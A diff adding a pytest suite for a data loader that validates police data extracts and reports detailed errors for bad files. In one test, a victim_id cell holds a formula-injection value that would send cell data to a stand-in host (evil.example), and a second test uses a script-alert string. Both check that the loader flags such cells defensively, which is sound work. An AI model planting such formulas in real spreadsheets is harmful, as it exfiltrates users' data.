@@ -1,0 +1,657 @@
+"""Loading with validation: every way an extract can break the contract names file, column and rows."""
+
+from __future__ import annotations
+
+import datetime as dt
+import json
+
+import numpy as np
+import pandas as pd
+import pytest
+
+from helpers import loading
+from helpers.config import PROJECT_ROOT
+from helpers.contract import EXTRACTS
+from helpers.loading import (
+    DataValidationError,
+    LoadReport,
+    fingerprint,
+    load_extract,
+    load_extracts,
+)
+
+
+# --------------------------------------------------------------------------- fixtures
+def crimes_rows() -> list[dict]:
+    base = {
+        "offence_group": "Burglary",
+        "victim_based": "true",
+        "district": "Basildon",
+        "domestic_abuse": "false",
+        "da_risk_level": "",
+        "night_time_economy": "false",
+        "rural": "false",
+        "business": "false",
+        "class_a_supply": "false",
+        "victim_id": "V1",
+        "outcome_type": "",
+        "outcome_date": "",
+        "evidence_led_prosecution": "false",
+    }
+    return [
+        {**base, "crime_id": "C1", "recorded_date": "2016-04-01"},
+        {**base, "crime_id": "C2", "recorded_date": "2016-04-02", "district": "Harlow",
+         "outcome_type": "charge_summons", "outcome_date": "2016-05-01", "victim_id": "V2"},
+        {**base, "crime_id": "C3", "recorded_date": "2016-05-03", "offence_group": "Drug offences",
+         "victim_based": "false", "victim_id": "", "domestic_abuse": "true",
+         "da_risk_level": "high"},
+        {**base, "crime_id": "C4", "recorded_date": "2016-06-04", "district": "Tendring"},
+    ]  # fmt: skip
+
+
+def incidents_rows() -> list[dict]:
+    base = {
+        "urban_rural": "urban",
+        "district": "Chelmsford",
+        "domestic_abuse": "false",
+        "asb": "false",
+        "alcohol": "false",
+        "drugs": "false",
+        "mental_health": "false",
+        "victim_id": "",
+    }
+    return [
+        {**base, "incident_id": "I1", "opened_at": "2016-04-01 10:00:00",
+         "arrived_at": "2016-04-01 10:12:00", "grade": "1"},
+        {**base, "incident_id": "I2", "opened_at": "2016-04-02 23:59:59", "arrived_at": "",
+         "grade": "3", "urban_rural": "rural", "asb": "TRUE"},
+        {**base, "incident_id": "I3", "opened_at": "2016-04-03 08:00:00",
+         "arrived_at": "2016-04-03 08:30:00", "grade": "2", "domestic_abuse": "yes",
+         "victim_id": "V9"},
+    ]  # fmt: skip
+
+
+def workforce_rows() -> list[dict]:
+    return [
+        {"month": "2016-04", "group": g, "strength_fte": "100.5", "days_lost": "12"}
+        for g in ("officer", "staff", "pcso")
+    ]
+
+
+def collisions_rows() -> list[dict]:
+    return [
+        {"collision_id": "K1", "collision_date": "2016-04-01", "district": "Basildon"},
+        {"collision_id": "K2", "collision_date": "2016-04-02", "district": "Maldon"},
+    ]
+
+
+ROWS = {
+    "crimes": crimes_rows,
+    "incidents": incidents_rows,
+    "workforce": workforce_rows,
+    "collisions": collisions_rows,
+}
+
+
+def write_csv(folder, name, rows=None, columns=None, text=None, encoding="utf-8"):
+    """Write an extract CSV (all cells as text, exactly as given) and return its path."""
+    path = folder / f"{name}.csv"
+    if text is None:
+        rows = ROWS[name]() if rows is None else rows
+        columns = columns or EXTRACTS[name].column_names
+        lines = [",".join(columns)]
+        for r in rows:
+            cells = []
+            for c in columns:
+                v = str(r.get(c, ""))
+                cells.append('"' + v.replace('"', '""') + '"' if any(x in v for x in ',"\n') else v)
+            lines.append(",".join(cells))
+        text = "\n".join(lines) + "\n"
+    path.write_bytes(text.encode(encoding) if isinstance(text, str) else text)
+    return path
+
+
+def load_error(folder, name) -> str:
+    with pytest.raises(DataValidationError) as info:
+        load_extract(folder, name)
+    return str(info.value)
+
+
+# --------------------------------------------------------------------------- good files
+@pytest.mark.parametrize("name", sorted(ROWS))
+def test_good_csv_loads_in_contract_order_and_dtypes(tmp_path, name):
+    write_csv(tmp_path, name)
+    frame = load_extract(tmp_path, name)
+    extract = EXTRACTS[name]
+    assert list(frame.columns) == extract.column_names
+    assert len(frame) == len(ROWS[name]())
+    assert isinstance(frame.index, pd.RangeIndex)
+    for col in extract.columns:
+        dtype = frame[col.name].dtype
+        if col.type in ("date", "datetime", "month"):
+            assert dtype == "datetime64[ns]", col.name
+        elif col.type == "int":
+            assert dtype == ("Int64" if col.nullable else "int64"), col.name
+        elif col.type == "float":
+            assert dtype == "float64", col.name
+        elif col.type == "bool":
+            assert dtype == ("boolean" if col.nullable else bool), col.name
+        else:
+            assert dtype == np.dtype(object), col.name
+
+
+def test_csv_values_are_converted_not_guessed(tmp_path):
+    write_csv(tmp_path, "incidents")
+    frame = load_extract(tmp_path, "incidents")
+    assert frame["grade"].tolist() == [1, 3, 2]
+    assert frame["asb"].tolist() == [False, True, False]  # "TRUE" is true
+    assert frame["domestic_abuse"].tolist() == [False, False, True]  # "yes" is true
+    assert pd.isna(frame.loc[1, "arrived_at"])
+    assert frame.loc[0, "arrived_at"] == pd.Timestamp("2016-04-01 10:12:00")
+    assert pd.isna(frame.loc[0, "victim_id"])  # empty text is NaN, not ""
+    assert frame.loc[2, "victim_id"] == "V9"
+
+
+def test_month_is_the_first_day_of_the_month(tmp_path):
+    write_csv(tmp_path, "workforce")
+    frame = load_extract(tmp_path, "workforce")
+    assert (frame["month"] == pd.Timestamp("2016-04-01")).all()
+
+
+@pytest.mark.parametrize("name", sorted(ROWS))
+def test_good_csv_and_good_parquet_load_to_identical_frames(tmp_path, name):
+    csv_dir, pq_dir = tmp_path / "csv", tmp_path / "parquet"
+    csv_dir.mkdir()
+    pq_dir.mkdir()
+    write_csv(csv_dir, name)
+    from_csv = load_extract(csv_dir, name)
+    # A parquet written the usual way: typed columns, None (not NaN) for empty text.
+    typed = from_csv.copy()
+    for c in typed.columns[typed.dtypes == np.dtype(object)]:
+        typed[c] = typed[c].where(typed[c].notna(), None)
+    typed.to_parquet(pq_dir / f"{name}.parquet", index=False)
+    from_parquet = load_extract(pq_dir, name)
+    pd.testing.assert_frame_equal(from_csv, from_parquet)
+
+
+def test_parquet_with_date32_categorical_and_nullable_types_is_converted(tmp_path):
+    frame = pd.DataFrame(
+        {
+            "collision_id": pd.Series(["K1", "K2"], dtype="string"),
+            "collision_date": [dt.date(2016, 4, 1), dt.date(2016, 4, 2)],
+            "district": pd.Categorical(["Basildon", "Maldon"]),
+        }
+    )
+    frame.to_parquet(tmp_path / "collisions.parquet", index=False)
+    csv_dir = tmp_path / "csv"
+    csv_dir.mkdir()
+    write_csv(csv_dir, "collisions")
+    pd.testing.assert_frame_equal(
+        load_extract(tmp_path, "collisions"), load_extract(csv_dir, "collisions")
+    )
+
+
+def test_parquet_id_saved_as_the_index_is_a_column(tmp_path):
+    frame = pd.DataFrame(collisions_rows()).set_index("collision_id")
+    frame["collision_date"] = pd.to_datetime(frame["collision_date"])
+    frame.to_parquet(tmp_path / "collisions.parquet")
+    assert load_extract(tmp_path, "collisions")["collision_id"].tolist() == ["K1", "K2"]
+
+
+def test_parquet_is_preferred_and_the_shadowed_csv_is_reported(tmp_path):
+    write_csv(tmp_path, "collisions")
+    pd.DataFrame(collisions_rows()[:1]).assign(
+        collision_date=pd.Timestamp("2016-04-01")
+    ).to_parquet(tmp_path / "collisions.parquet")
+    report = LoadReport()
+    frames = load_extracts(tmp_path, report=report)
+    assert len(frames["collisions"]) == 1
+    assert report.extracts["collisions"].format == "parquet"
+    assert any("collisions.csv" in f for f in report.ignored_files)
+
+
+# --------------------------------------------------------------------------- each failure
+def test_missing_file_asked_for_by_name(tmp_path):
+    message = load_error(tmp_path, "crimes")
+    assert "crimes.parquet" in message and "crimes.csv" in message
+    assert "not found" in message
+    assert str(tmp_path) not in message
+
+
+def test_absent_file_is_not_an_error_when_loading_a_folder(tmp_path):
+    write_csv(tmp_path, "collisions")
+    report = LoadReport()
+    frames = load_extracts(tmp_path, report=report)
+    assert list(frames) == ["collisions"]
+    assert "crimes" in report.absent
+
+
+def test_unreadable_parquet(tmp_path):
+    (tmp_path / "collisions.parquet").write_bytes(b"this is not parquet at all")
+    message = load_error(tmp_path, "collisions")
+    assert "collisions.parquet" in message
+    assert "cannot be read as parquet" in message
+    assert str(tmp_path) not in message
+
+
+def test_csv_with_a_ragged_line_is_unreadable_with_its_line(tmp_path):
+    write_csv(
+        tmp_path,
+        "collisions",
+        text="collision_id,collision_date,district\nK1,2016-04-01,Maldon,extra\n",
+    )
+    message = load_error(tmp_path, "collisions")
+    assert "collisions.csv" in message and "cannot be read as CSV" in message
+    assert "line 2" in message
+
+
+def test_missing_column(tmp_path):
+    cols = [c for c in EXTRACTS["crimes"].column_names if c != "recorded_date"]
+    write_csv(tmp_path, "crimes", columns=cols)
+    message = load_error(tmp_path, "crimes")
+    assert "crimes.csv" in message
+    assert "column 'recorded_date': is missing" in message
+
+
+def test_missing_column_hints_at_a_near_miss(tmp_path):
+    cols = ["Collision_ID", "collision_date", "district"]
+    rows = [{"Collision_ID": "K1", "collision_date": "2016-04-01", "district": "Maldon"}]
+    write_csv(tmp_path, "collisions", rows=rows, columns=cols)
+    message = load_error(tmp_path, "collisions")
+    assert "column 'collision_id': is missing (found 'Collision_ID'" in message
+
+
+def test_wrong_type_text_in_an_int_column(tmp_path):
+    rows = incidents_rows()
+    rows[1]["grade"] = "high"
+    write_csv(tmp_path, "incidents", rows=rows)
+    message = load_error(tmp_path, "incidents")
+    assert "incidents.csv" in message
+    assert "column 'grade': 1 row are not whole numbers — e.g. row 3: 'high'" in message
+
+
+def test_wrong_type_fraction_in_an_int_column(tmp_path):
+    rows = incidents_rows()
+    rows[0]["grade"] = "1.5"
+    write_csv(tmp_path, "incidents", rows=rows)
+    assert "column 'grade': 1 row are not whole numbers — e.g. row 2: '1.5'" in load_error(
+        tmp_path, "incidents"
+    )
+
+
+def test_wrong_type_text_in_a_bool_column(tmp_path):
+    rows = crimes_rows()
+    rows[3]["rural"] = "maybe"
+    write_csv(tmp_path, "crimes", rows=rows)
+    message = load_error(tmp_path, "crimes")
+    assert "column 'rural'" in message and "row 5: 'maybe'" in message
+
+
+def test_wrong_type_in_parquet_numbers_in_a_date_column(tmp_path):
+    frame = pd.DataFrame(
+        {"collision_id": ["K1"], "collision_date": [20160401], "district": ["Maldon"]}
+    )
+    frame.to_parquet(tmp_path / "collisions.parquet")
+    message = load_error(tmp_path, "collisions")
+    assert "collisions.parquet" in message
+    assert "column 'collision_date': 1 row are not dates (the column holds int64)" in message
+    assert "row 1: 20160401" in message
+
+
+@pytest.mark.parametrize("bad", ["2016-13-01", "01/04/2016", "yesterday", "2016-04"])
+def test_unparseable_date(tmp_path, bad):
+    rows = crimes_rows()
+    rows[2]["recorded_date"] = bad
+    write_csv(tmp_path, "crimes", rows=rows)
+    message = load_error(tmp_path, "crimes")
+    assert "crimes.csv" in message
+    assert "column 'recorded_date': 1 row are not dates in the form YYYY-MM-DD" in message
+    assert f"row 4: '{bad}'" in message
+
+
+def test_unparseable_datetime_and_time_zone(tmp_path):
+    rows = incidents_rows()
+    rows[0]["opened_at"] = "2016-04-01 25:00:00"
+    rows[2]["opened_at"] = "2016-04-03T08:00:00+01:00"
+    write_csv(tmp_path, "incidents", rows=rows)
+    message = load_error(tmp_path, "incidents")
+    assert "column 'opened_at': 1 row are not dates and times in the form" in message
+    assert "row 2: '2016-04-01 25:00:00'" in message
+    assert "column 'opened_at': 1 row have a time zone" in message
+    assert "row 4: '2016-04-03T08:00:00+01:00'" in message
+
+
+def test_date_with_a_time_of_day_is_refused_but_midnight_is_fine(tmp_path):
+    rows = collisions_rows()
+    rows[0]["collision_date"] = "2016-04-01 00:00:00"
+    rows[1]["collision_date"] = "2016-04-02 13:45:00"
+    write_csv(tmp_path, "collisions", rows=rows)
+    message = load_error(tmp_path, "collisions")
+    assert "column 'collision_date': 1 row have a time of day" in message
+    assert "row 3: '2016-04-02 13:45:00'" in message
+
+
+def test_month_not_on_the_first_is_refused(tmp_path):
+    rows = workforce_rows()
+    rows[0]["month"] = "2016-04-01"  # accepted: a date on the 1st
+    rows[1]["month"] = "2016-04-15"
+    write_csv(tmp_path, "workforce", rows=rows)
+    message = load_error(tmp_path, "workforce")
+    assert "column 'month': 1 row are not a month" in message and "row 3: '2016-04-15'" in message
+
+
+def test_unknown_district(tmp_path):
+    rows = crimes_rows()
+    rows[1]["district"] = "Gotham"
+    rows[3]["district"] = "basildon"
+    write_csv(tmp_path, "crimes", rows=rows)
+    message = load_error(tmp_path, "crimes")
+    assert "crimes.csv" in message
+    assert "column 'district': 2 rows are not a district of data/reference/districts.csv" in message
+    assert "row 3: 'Gotham'" in message and "row 5: 'basildon'" in message
+
+
+def test_unknown_msg_force(tmp_path):
+    text = "period_end,force,question,respondents,agreeing\n2016-03,Gotham Police,police_good_job,10,5\n"
+    write_csv(tmp_path, "confidence_survey", text=text)
+    message = load_error(tmp_path, "confidence_survey")
+    assert "column 'force': 1 row are not a force of data/reference/msg_forces.csv" in message
+    assert "row 2: 'Gotham Police'" in message
+
+
+def test_duplicate_id(tmp_path):
+    rows = crimes_rows()
+    rows[3]["crime_id"] = "C1"
+    write_csv(tmp_path, "crimes", rows=rows)
+    message = load_error(tmp_path, "crimes")
+    assert "crimes.csv" in message
+    assert "column 'crime_id': 2 rows repeat a value that must be unique (crime_id)" in message
+    assert "row 2: 'C1'" in message and "row 5: 'C1'" in message
+
+
+def test_duplicate_compound_key(tmp_path):
+    rows = workforce_rows()
+    rows[2]["group"] = "officer"
+    write_csv(tmp_path, "workforce", rows=rows)
+    message = load_error(tmp_path, "workforce")
+    assert "column 'month + group': 2 rows repeat a value that must be unique" in message
+    assert "row 4: 2016-04-01 00:00:00 / 'officer'" in message
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["", "collision_id,collision_date,district\n", "collision_id,collision_date,district\n,,\n\n"],
+)
+def test_empty_extract(tmp_path, text):
+    write_csv(tmp_path, "collisions", text=text)
+    message = load_error(tmp_path, "collisions")
+    assert "collisions.csv" in message
+    assert "is empty" in message or "has no rows" in message
+
+
+def test_empty_parquet_extract(tmp_path):
+    frame = pd.DataFrame({"collision_id": pd.Series([], dtype=object),
+                          "collision_date": pd.Series([], dtype="datetime64[ns]"),
+                          "district": pd.Series([], dtype=object)})  # fmt: skip
+    frame.to_parquet(tmp_path / "collisions.parquet")
+    assert "collisions.parquet: \n" not in load_error(tmp_path, "collisions")
+    assert "has no rows" in load_error(tmp_path, "collisions")
+
+
+def test_bad_category(tmp_path):
+    rows = crimes_rows()
+    rows[0]["offence_group"] = "Burglary "
+    rows[2]["da_risk_level"] = "HIGH"
+    write_csv(tmp_path, "crimes", rows=rows)
+    message = load_error(tmp_path, "crimes")
+    assert "column 'offence_group': 1 row are not one of the allowed values" in message
+    assert "row 2: 'Burglary '" in message
+    assert (
+        "column 'da_risk_level': 1 row are not one of the allowed values (standard, medium, high)"
+        in message
+    )
+    assert "row 4: 'HIGH'" in message
+
+
+def test_null_in_a_non_nullable_column(tmp_path):
+    rows = crimes_rows()
+    rows[1]["crime_id"] = "   "
+    rows[2]["recorded_date"] = ""
+    write_csv(tmp_path, "crimes", rows=rows)
+    message = load_error(tmp_path, "crimes")
+    assert (
+        "column 'crime_id': 1 row are empty (this column must have a value) — e.g. row 3: '   '"
+        in message
+    )
+    assert "column 'recorded_date': 1 row are empty" in message and "row 4: ''" in message
+
+
+def test_null_in_parquet_non_nullable_bool(tmp_path):
+    frame = pd.DataFrame({"test_id": ["T1", "T2"], "test_date": pd.to_datetime(["2016-04-01"] * 2),
+                          "district": ["Maldon"] * 2, "positive": [True, None]})  # fmt: skip
+    frame.to_parquet(tmp_path / "drug_tests.parquet")
+    message = load_error(tmp_path, "drug_tests")
+    assert "column 'positive': 1 row are empty" in message and "row 2: (empty)" in message
+
+
+@pytest.mark.parametrize(
+    ("grade", "what"), [("0", "below the minimum 1"), ("5", "above the maximum 4")]
+)
+def test_out_of_range(tmp_path, grade, what):
+    rows = incidents_rows()
+    rows[2]["grade"] = grade
+    write_csv(tmp_path, "incidents", rows=rows)
+    message = load_error(tmp_path, "incidents")
+    assert "incidents.csv" in message
+    assert f"column 'grade': 1 row are {what} — e.g. row 4: '{grade}'" in message
+
+
+def test_out_of_range_in_parquet_floats(tmp_path):
+    frame = pd.DataFrame({"month": pd.to_datetime(["2016-04-01"]), "group": ["officer"],
+                          "strength_fte": [-3.0], "days_lost": [np.inf]})  # fmt: skip
+    frame.to_parquet(tmp_path / "workforce.parquet")
+    message = load_error(tmp_path, "workforce")
+    assert "column 'strength_fte': 1 row are below the minimum 0 — e.g. row 1: -3.0" in message
+    assert "column 'days_lost': 1 row are infinite" in message
+
+
+def test_non_utf8_csv_names_the_byte_offset_and_line(tmp_path):
+    text = "collision_id,collision_date,district\nK1,2016-04-01,Maldon\nK2,2016-04-02,Southend-on-Sea\u00e9\n"
+    write_csv(tmp_path, "collisions", text=text, encoding="cp1252")
+    message = load_error(tmp_path, "collisions")
+    assert "collisions.csv" in message
+    assert "is not UTF-8 text: byte 0xE9" in message
+    offset = text.encode("cp1252").index(b"\xe9")
+    assert f"at byte offset {offset:,} (line 3)" in message
+
+
+def test_utf8_bom_is_accepted(tmp_path):
+    write_csv(tmp_path, "collisions")
+    path = tmp_path / "collisions.csv"
+    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
+    assert list(load_extract(tmp_path, "collisions").columns)[0] == "collision_id"
+
+
+def test_long_string_in_an_id_column(tmp_path):
+    rows = crimes_rows()
+    rows[2]["victim_id"] = "A" * 1500
+    write_csv(tmp_path, "crimes", rows=rows)
+    message = load_error(tmp_path, "crimes")
+    assert "crimes.csv" in message
+    assert "column 'victim_id': 1 row are longer than 1,000 characters" in message
+    assert "row 4: '" + "A" * 60 + "…' (1,500 characters)" in message
+    assert "A" * 61 not in message
+
+
+def test_outcome_before_recorded_date_breaks_a_row_rule(tmp_path):
+    rows = crimes_rows()
+    rows[1]["outcome_date"] = "2016-03-01"
+    write_csv(tmp_path, "crimes", rows=rows)
+    message = load_error(tmp_path, "crimes")
+    assert "column 'outcome_date': 1 row have an outcome date before the recorded date" in message
+    assert "row 3: recorded_date=2016-04-02 00:00:00, outcome_date=2016-03-01 00:00:00" in message
+
+
+def test_offender_of_an_unknown_crime_is_refused(tmp_path):
+    write_csv(tmp_path, "crimes")
+    text = "crime_id,offender_id,age_at_offence\nC1,O1,15\nC99,O2,30\n"
+    write_csv(tmp_path, "crime_offenders", text=text)
+    with pytest.raises(DataValidationError) as info:
+        load_extracts(tmp_path)
+    message = str(info.value)
+    assert "crime_offenders.csv" in message
+    assert (
+        "column 'crime_id': 1 row are not a crime_id of crimes.csv — e.g. row 3: 'C99'" in message
+    )
+
+
+def test_all_problems_of_a_file_are_listed_in_one_error(tmp_path):
+    rows = crimes_rows()
+    rows[0]["recorded_date"] = "soon"
+    rows[1]["district"] = "Gotham"
+    rows[3]["crime_id"] = "C3"
+    write_csv(tmp_path, "crimes", rows=rows)
+    with pytest.raises(DataValidationError) as info:
+        load_extract(tmp_path, "crimes")
+    columns = {p.column for p in info.value.problems}
+    assert columns == {"recorded_date", "district", "crime_id"}
+    assert all(p.file == "crimes.csv" for p in info.value.problems)
+
+
+def test_more_than_five_offending_rows_show_five_examples(tmp_path):
+    rows = [{"collision_id": f"K{i}", "collision_date": "2016-04-01", "district": "Nowhere"}
+            for i in range(8)]  # fmt: skip
+    write_csv(tmp_path, "collisions", rows=rows)
+    with pytest.raises(DataValidationError) as info:
+        load_extract(tmp_path, "collisions")
+    (problem,) = info.value.problems
+    assert problem.rows == 8
+    assert [r for r, _ in problem.examples] == [2, 3, 4, 5, 6]
+    assert "— e.g. row 2: 'Nowhere'" in str(info.value) and ", …" in str(info.value)
+
+
+# --------------------------------------------------------------------------- nothing half-loaded
+def test_nothing_is_half_loaded(tmp_path):
+    write_csv(tmp_path, "collisions")  # good, and first in the loop below
+    rows = crimes_rows()
+    rows[0]["recorded_date"] = "never"
+    write_csv(tmp_path, "crimes", rows=rows)  # bad
+    report = LoadReport()
+    result = None
+    with pytest.raises(DataValidationError) as info:
+        result = load_extracts(tmp_path, ["collisions", "crimes"], report)
+    assert result is None
+    assert "crimes.csv" in str(info.value) and "collisions.csv" not in str(info.value)
+    assert report.extracts["collisions"].rows_loaded == 0
+    assert report.errors and report.errors[0].startswith("crimes.csv: column 'recorded_date'")
+
+
+def test_problems_of_several_files_come_in_one_error(tmp_path):
+    rows = collisions_rows()
+    rows[0]["district"] = "Gotham"
+    write_csv(tmp_path, "collisions", rows=rows)
+    rows = crimes_rows()
+    rows[0]["recorded_date"] = "never"
+    write_csv(tmp_path, "crimes", rows=rows)
+    with pytest.raises(DataValidationError) as info:
+        load_extracts(tmp_path)
+    message = str(info.value)
+    assert message.startswith("2 extract files do not meet the data contract")
+    assert "\ncrimes.csv:\n" in message and "\ncollisions.csv:\n" in message
+
+
+# --------------------------------------------------------------------------- report
+def test_empty_district_is_unassigned_and_counted(tmp_path):
+    rows = crimes_rows()
+    rows[0]["district"] = ""
+    rows[2]["district"] = " "
+    rows[3]["district"] = "Unassigned"
+    write_csv(tmp_path, "crimes", rows=rows)
+    report = LoadReport()
+    frame = load_extracts(tmp_path, report=report)["crimes"]
+    assert frame["district"].tolist() == ["Unassigned", "Harlow", "Unassigned", "Unassigned"]
+    entry = report.extracts["crimes"]
+    assert (entry.unassigned_mapped, entry.unassigned_in_file, entry.rows_unassigned) == (2, 1, 3)
+    assert entry.rows_read == entry.rows_loaded == 4
+    assert any("2 rows with an empty district" in w for w in report.warnings())
+
+
+def test_report_reconciles_rows_and_lists_extra_columns(tmp_path):
+    cols = EXTRACTS["collisions"].column_names + ["notes"]
+    rows = [dict(r, notes="x") for r in collisions_rows()]
+    text = write_csv(tmp_path, "collisions", rows=rows, columns=cols).read_text()
+    (tmp_path / "collisions.csv").write_text(text + "\n,,,\n")  # a blank line and an empty record
+    (tmp_path / "colisions.csv").write_text("typo")
+    report = LoadReport()
+    frames = load_extracts(tmp_path, report=report)
+    assert list(frames["collisions"].columns) == EXTRACTS["collisions"].column_names
+    entry = report.extracts["collisions"]
+    assert entry.extra_columns_ignored == ["notes"]
+    assert (entry.rows_read, entry.rows_loaded, entry.blank_lines_skipped) == (2, 2, 2)
+    assert (entry.date_from, entry.date_to) == ("2016-04-01", "2016-04-02")
+    assert report.ignored_files == ["colisions.csv (not an extract of the contract)"]
+    as_dict = report.to_dict()
+    assert json.loads(json.dumps(as_dict)) == as_dict
+    assert as_dict["extracts"]["collisions"]["file"] == "collisions.csv"
+
+
+def test_formula_like_text_is_kept_verbatim_and_reported(tmp_path):
+    rows = crimes_rows()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows[0]["victim_id"] = formula
+    rows[1]["victim_id"] = "@SUM(1+1)"
+    rows[3]["crime_id"] = "-C4"
+    write_csv(tmp_path, "crimes", rows=rows)
+    report = LoadReport()
+    frame = load_extracts(tmp_path, report=report)["crimes"]
+    assert frame.loc[0, "victim_id"] == formula
+    assert frame.loc[1, "victim_id"] == "@SUM(1+1)"
+    assert frame.loc[3, "crime_id"] == "-C4"
+    entry = report.extracts["crimes"]
+    assert entry.formula_like_cells == 3
+    assert "row 2, column 'victim_id'" in entry.formula_like_examples
+    assert formula not in json.dumps(report.to_dict())  # the run record holds no values
+
+
+def test_html_text_is_loaded_as_is(tmp_path):
+    rows = crimes_rows()
+    rows[0]["victim_id"] = "<script>alert('x')</script>"
+    write_csv(tmp_path, "crimes", rows=rows)
+    assert load_extract(tmp_path, "crimes").loc[0, "victim_id"] == "<script>alert('x')</script>"
+
+
+# --------------------------------------------------------------------------- paths and fingerprint
+def test_files_inside_the_project_are_named_relative_to_it():
+    assert (
+        loading._display(PROJECT_ROOT / "data" / "demo" / "crimes.parquet")
+        == "data/demo/crimes.parquet"
+    )
+    assert loading._display(PROJECT_ROOT.parent / "elsewhere" / "crimes.csv") == "crimes.csv"
+
+
+def test_fingerprint_follows_content_not_location(tmp_path):
+    a, b = tmp_path / "a", tmp_path / "b"
+    a.mkdir()
+    b.mkdir()
+    write_csv(a, "collisions")
+    write_csv(b, "collisions")
+    (b / "readme.txt").write_text("not an extract")
+    assert fingerprint(a) == fingerprint(b)
+    assert len(fingerprint(a)) == 64
+    rows = collisions_rows()
+    rows[1]["district"] = "Harlow"
+    write_csv(b, "collisions", rows=rows)
+    assert fingerprint(a) != fingerprint(b)
+
+
+def test_unknown_extract_name_is_a_key_error(tmp_path):
+    with pytest.raises(KeyError, match="unknown extract 'crime'"):
+        load_extract(tmp_path, "crime")
+
+
+def test_a_column_twice_in_the_header_is_refused(tmp_path):
+    text = "collision_id,collision_date,district,district\nK1,2016-04-01,Maldon,Harlow\n"
+    write_csv(tmp_path, "collisions", text=text)
+    assert "column 'district': appears more than once in the header" in load_error(
+        tmp_path, "collisions"
+    )
